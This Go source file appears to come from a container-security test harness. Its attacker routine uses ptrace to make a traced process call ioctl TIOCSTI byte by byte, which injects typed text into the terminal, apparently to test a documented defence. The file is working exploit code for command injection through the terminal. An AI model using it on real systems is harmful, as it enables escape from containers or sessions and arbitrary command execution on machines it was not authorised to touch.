package main

import (
	"errors"
	"fmt"
	"os"
	"runtime"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

// injectThroughTrace is -mode ptrace-tiocsti: the container's init waits for
// a process named comm that it may trace (root without capabilities: a
// command that dropped them, such as ping, or setpriv --bounding-set=-all),
// attaches to it and makes it call ioctl(0, TIOCSTI, &c) for each byte of
// text, as defence 1's limit in docs/security.md says it can. It logs
// "INJECT pid=N ok" or "INJECT pid=N err=...", then detaches and exits its
// loop when stop exists.
func (a *attacker) injectThroughTrace(comm, text, stop string) {
	runtime.LockOSThread() // every ptrace request from the tracing thread
	tries := map[int]int{} // a process found at its exec may not sleep yet
	for !exists(stop) {
		for _, pid := range a.candidates() {
			if tries[pid] >= 20 || readComm(pid) != comm {
				continue
			}
			tries[pid]++
			err := injectInto(pid, text)
			switch {
			case err == errNotInSyscall:
				continue
			case err != nil:
				a.logf("INJECT pid=%d err=%v", pid, err)
			default:
				a.logf("INJECT pid=%d ok", pid)
			}
			tries[pid] = 20
		}
		time.Sleep(10 * time.Millisecond)
	}
	a.logf("DONE")
	select {}
}

func readComm(pid int) string {
	b, _ := os.ReadFile("/proc/" + strconv.Itoa(pid) + "/comm")
	return strings.TrimSpace(string(b))
}

// injectInto attaches to pid, which must be blocked in a system call (sleep
// is), and runs ioctl(0, TIOCSTI) in it once per byte of text.
func injectInto(pid int, text string) error {
	if err := unix.PtraceAttach(pid); err != nil {
		return fmt.Errorf("attach: %w", err)
	}
	defer unix.PtraceDetach(pid)
	if err := waitStop(pid); err != nil {
		return err
	}
	var saved unix.PtraceRegs
	if err := unix.PtraceGetRegs(pid, &saved); err != nil {
		return fmt.Errorf("getregs: %w", err)
	}
	// Stopped in the middle of a system call: the instruction before rip is it.
	insn := make([]byte, 2)
	if _, err := unix.PtracePeekText(pid, uintptr(saved.Rip-2), insn); err != nil || insn[0] != 0x0f || insn[1] != 0x05 {
		return errNotInSyscall
	}
	defer unix.PtraceSetRegs(pid, &saved)
	buf := saved.Rsp - 512 // below the red zone
	for i := 0; i < len(text); i++ {
		word := make([]byte, 8)
		word[0] = text[i]
		if _, err := unix.PtracePokeData(pid, uintptr(buf), word); err != nil {
			return fmt.Errorf("poke: %w", err)
		}
		ret := syscallIn(pid, saved, unix.SYS_IOCTL, 0, unix.TIOCSTI, buf)
		if ret <= -1000 {
			return fmt.Errorf("running ioctl in pid %d: tracing failed (%d)", pid, ret)
		}
		if ret < 0 {
			return fmt.Errorf("ioctl TIOCSTI in pid %d: %w", pid, unix.Errno(-ret))
		}
	}
	return nil
}

var errNotInSyscall = errors.New("not stopped in a system call")
